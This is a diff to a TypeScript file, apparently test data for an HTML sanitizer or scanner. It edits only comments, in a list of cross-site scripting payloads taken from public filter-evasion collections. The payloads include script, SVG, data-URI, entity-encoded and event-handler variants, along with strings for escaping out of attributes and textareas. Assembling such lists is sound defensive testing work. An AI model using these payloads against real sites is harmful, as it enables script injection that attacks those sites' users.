@@ -1,4 +1,4 @@
-/** Ways to make HTML execute a script, from public collections of filter evasions. */
+/** Ways to make HTML execute a script, from public filter evasion collections. */
 export const xssPayloads: readonly string[] = [
   // plain
   '<script>alert(1)</script>',
@@ -18,7 +18,7 @@ export const xssPayloads: readonly string[] = [
   '<script xlink:href="data:text/javascript,alert(1)"></script>',
   '<svg><script>alert&#40;1&#41;</script></svg>',
   '<svg><script xlink:href="data:,alert(1)"/></svg>',
-  // events of pictures and media
+  // events on pictures and media
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)">',
   "<img src=x onerror='alert(1)'>",
@@ -59,7 +59,7 @@ export const xssPayloads: readonly string[] = [
   '<video src="https://evil.example/x.mp4"></video>',
   '<audio src=x onerror=alert(1)>',
   '<audio autoplay onplay=alert(1) src="/files/x.mp4">',
-  // events of other elements
+  // events on other elements
   '<body onload=alert(1)>',
   '<body onpageshow=alert(1)>',
   '<p onclick="alert(1)">x</p>',
@@ -174,7 +174,7 @@ export const xssPayloads: readonly string[] = [
   '<tr><td colspan="1" onclick="alert(1)">x</td></tr>',
 ]
 
-// an attribute in either kind of quotes, a text field
+// an attribute in either quote kind, a text field
 const surroundings = ['', '">', "'>", '</textarea>'] as const
 
 /** Each payload unchanged, and as an escape from an attribute or element. */
